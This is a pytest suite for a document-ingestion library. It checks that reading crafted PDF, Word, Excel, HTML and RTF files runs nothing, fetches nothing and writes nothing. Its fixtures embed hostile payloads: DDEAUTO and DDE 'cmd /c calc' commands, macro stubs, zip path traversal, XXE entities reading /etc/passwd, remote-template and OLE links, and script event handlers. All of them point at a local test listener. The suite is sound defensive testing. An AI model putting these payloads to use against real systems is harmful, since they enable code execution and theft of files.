"""Files that would make their reader run, fetch or write something: they are read for their text, and nothing of that happens."""

import os
import re
import shutil
import socket
import sys
import zipfile
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl import Workbook

from corpus.errors import FileError
from corpus.picture import draw
from ingest.read import read
from ingest.word97 import PROGRAMS, _convert
from tests.ingest.hostile_pdf import active

pytestmark = pytest.mark.enable_socket
SENTENCE = "本年度一般公共预算财政拨款支出12.50万元。"
TITLE = "某某区财政局2024年度部门决算"
SECRET = "口令七七四十九"
DONE: list[str] = []
"""What Python was asked to do while a file is read that reading does not need."""
WRITES = os.O_WRONLY | os.O_RDWR | os.O_CREAT
watching = False


def _hear(event: str, arguments: tuple[object, ...]) -> None:
    """An audit hook stays for good; it listens only while a file is read."""
    if not watching:
        return
    writes = event == "open" and isinstance(arguments[2], int) and bool(arguments[2] & WRITES) and arguments[0] != os.devnull
    if writes or event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "webbrowser.open", "exec") and not _own(event, arguments):
        DONE.append(f"{event} {arguments!r}"[:200])


def _own(event: str, arguments: tuple[object, ...]) -> bool:
    """The program's own modules are code too."""
    return event == "exec" and getattr(arguments[0], "co_filename", "").startswith(("/", "<frozen", "<string>", "<attrs", "<generated"))


sys.addaudithook(_hear)


class Outside:
    """An address that waits for whoever is made to call it."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.setblocking(False)
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}"

    def called(self) -> bool:
        try:
            self._socket.accept()[0].close()
        except BlockingIOError:
            return False
        return True

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def outside() -> Iterator[Outside]:
    made = Outside()
    yield made
    made.close()


def read_quietly(path: Path, outside: Outside) -> str:
    """All text of the file; nothing was run, fetched or written for it."""
    global watching
    before = sorted(path.parent.rglob("*"))
    DONE.clear()
    watching = True
    try:
        record = read(path)
    finally:
        watching = False
    assert DONE == [] and not outside.called() and sorted(path.parent.rglob("*")) == before
    assert [str(fact.amount) for fact in record.facts] == ["12.50万元"]
    return "\n".join(chunk.text for chunk in record.chunks) + "\n".join(fact.text for fact in record.facts)


def test_what_reading_is_watched_by_hears_a_file_a_program_and_a_connection(tmp_path: Path, outside: Outside) -> None:
    global watching
    DONE.clear()
    watching = True
    try:
        (tmp_path / "evil").write_bytes(b"")
        os.system("true")  # noqa: S605, S607
        with socket.create_connection(("127.0.0.1", int(outside.address.rpartition(":")[2]))):
            pass
    finally:
        watching = False
    assert {line.partition(" ")[0] for line in DONE} >= {"open", "os.system", "socket.connect"} and outside.called()


def test_a_pdf_runs_no_script_starts_no_program_and_fetches_nothing(tmp_path: Path, outside: Outside) -> None:
    trap = tmp_path / "trap"
    path = active(tmp_path / "a.pdf", outside.address, trap)
    told = read_quietly(path, outside)
    assert SENTENCE in told
    assert not [word for word in ("evil", "app.", "touch", "127.0.0.1", "MZ", "xdp") if word in told]
    assert draw(path, 2, 72).startswith(b"\x89PNG")
    assert not trap.exists() and not outside.called()


def docx(path: Path, address: str) -> Path:
    """With fields that include files and pictures, a remote template, a chunk of HTML, an OLE object and macros."""
    document = Document()
    document.add_paragraph(TITLE)
    document.add_paragraph(SENTENCE)
    for field in (f'INCLUDETEXT "{address}/t.docx"', f'INCLUDEPICTURE "{address}/p.png" \\d', "DDEAUTO cmd.exe /c calc", f'HYPERLINK "{address}/link"', 'INCLUDETEXT "/etc/passwd"'):
        paragraph = document.add_paragraph()
        for kind, inner in (("begin", ""), ("", field), ("end", "")):
            run = f'<w:fldChar w:fldCharType="{kind}"/>' if kind else f"<w:instrText>{inner}</w:instrText>"
            paragraph._p.append(parse_xml(f"<w:r {nsdecls('w')}>{run}</w:r>"))
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    part = document.part
    template = part.relate_to(f"{address}/template.dotm", f"{office}/attachedTemplate", is_external=True)
    picture = part.relate_to(f"{address}/picture.png", f"{office}/image", is_external=True)
    chunk = part.relate_to(f"{address}/chunk.html", f"{office}/aFChunk", is_external=True)
    ole = part.relate_to(f"{address}/ole.xls", f"{office}/oleObject", is_external=True)
    spaces = nsdecls("w", "r") + ' xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"'
    document.element.body.append(parse_xml(f'<w:altChunk {spaces} r:id="{chunk}"/>'))
    objects = f'<w:pict><v:shape><v:imagedata r:id="{picture}" r:href="{picture}"/></v:shape></w:pict><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="{ole}"/></w:object>'
    document.add_paragraph()._p.append(parse_xml(f"<w:r {spaces}>{objects}</w:r>"))
    document.settings.element.append(parse_xml(f'<w:attachedTemplate {spaces} r:id="{template}"/>'))
    document.save(str(path))
    with zipfile.ZipFile(path, "a") as packed:
        packed.writestr("word/vbaProject.bin", b'Sub AutoOpen()\nShell "evil"\nEnd Sub')
        packed.writestr("../../evil.sh", b"evil")
    return path


@pytest.mark.parametrize("suffix", ["docx", "docm"])
def test_a_word_file_runs_no_macro_and_fetches_nothing(tmp_path: Path, outside: Outside, suffix: str) -> None:
    told = read_quietly(docx(tmp_path / f"a.{suffix}", outside.address), outside)
    assert SENTENCE in told
    assert not [word for word in ("evil", "127.0.0.1", "cmd.exe", "INCLUDE", "root:") if word in told]


def test_a_workbook_runs_no_formula_and_fetches_nothing(tmp_path: Path, outside: Outside) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([TITLE])
    sheet.append([SENTENCE])
    for formula in ("=cmd|'/C calc'!A0", f'=WEBSERVICE("{outside.address}/w")', f"='{outside.address}/[a.xlsx]表'!A1", f'=HYPERLINK("{outside.address}")', f'=IMAGE("{outside.address}/i")'):
        sheet.append([formula])
    sheet["A1"].hyperlink = f"{outside.address}/link"
    path = tmp_path / "a.xlsx"
    book.save(tmp_path.with_suffix(".made"))
    with zipfile.ZipFile(tmp_path.with_suffix(".made")) as made, zipfile.ZipFile(path, "w") as packed:
        for name in made.namelist():  # as a program that has worked them out stores formulas
            packed.writestr(name, re.sub(rb"<c ([^>]*)><f>([^<]*)</f><v ?/?>(</v>)?", rb'<c \1 t="str"><f>\2</f><v>stored</v>', made.read(name)))
        packed.writestr("xl/vbaProject.bin", b"evil")
        packed.writestr("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="{outside.address}"/></externalLink>')
        packed.writestr("xl/connections.xml", f'<connections><connection><webPr url="{outside.address}/c"/></connection></connections>')
    told = read_quietly(path, outside)
    assert SENTENCE in told and "stored" in told and not [word for word in ("evil", "127.0.0.1", "cmd", "WEBSERVICE") if word in told]


def web(address: str) -> str:
    tags = "".join(f'<{tag} src="{address}/{tag}" href="{address}/{tag}" data="{address}/{tag}" onerror="evil()"></{tag}>' for tag in ("img", "iframe", "script", "object", "embed", "video", "audio", "frame", "link", "a"))
    return (
        f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{address}/entity">]><html><!-- progid="Word.Document" --><head><base href="{address}/b/">'
        f'<meta http-equiv="refresh" content="0;url={address}/refresh"><link rel="stylesheet" href="{address}/s.css"><style>@import "{address}/i.css"</style><script>evil = 1</script></head>'
        f'<body onload="evil()" background="{address}/bg.png"><h1>{TITLE}</h1><p>{SENTENCE}&x;&y;</p>{tags}<svg onload="evil()"><image href="{address}/svg"/></svg><p><a href="javascript:evil()">附件</a></p></body></html>'
    )


@pytest.mark.parametrize("name", ["a.html", "a.doc"])
def test_a_web_page_runs_no_script_and_fetches_nothing(tmp_path: Path, outside: Outside, name: str) -> None:
    (tmp_path / name).write_text(web(outside.address), encoding="utf-8")
    told = read_quietly(tmp_path / name, outside)
    assert SENTENCE.removesuffix("。") in told and not [word for word in ("evil", "127.0.0.1", "root:", "@import") if word in told]


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_the_converter_of_old_word_files_follows_no_link(tmp_path: Path, outside: Outside) -> None:
    """Were it given a web page, it would fetch pictures and styles: its own settings forbid it."""
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    rtf = r"{\rtf1\ansi{\*\template %s/t.dot}12{\field{\*\fldinst INCLUDEPICTURE %s/p.png}}{\field{\*\fldinst INCLUDETEXT %s/t.docx}}{\field{\*\fldinst INCLUDETEXT %s}}\par}"
    address = outside.address
    for number, content in enumerate((web(address), rtf % (address, address, address, tmp_path / "secret.txt"))):
        source = tmp_path / str(number) / "in.doc"
        source.parent.mkdir()
        source.write_text(content, encoding="utf-8")
        with suppress(FileError):  # whether it can be converted is all the same here
            _convert(PROGRAMS[0], source, "in.doc")
        assert not outside.called()
        assert SECRET.encode() not in b"".join(zipfile.ZipFile(made).read("word/document.xml") for made in source.parent.glob("*.docx"))
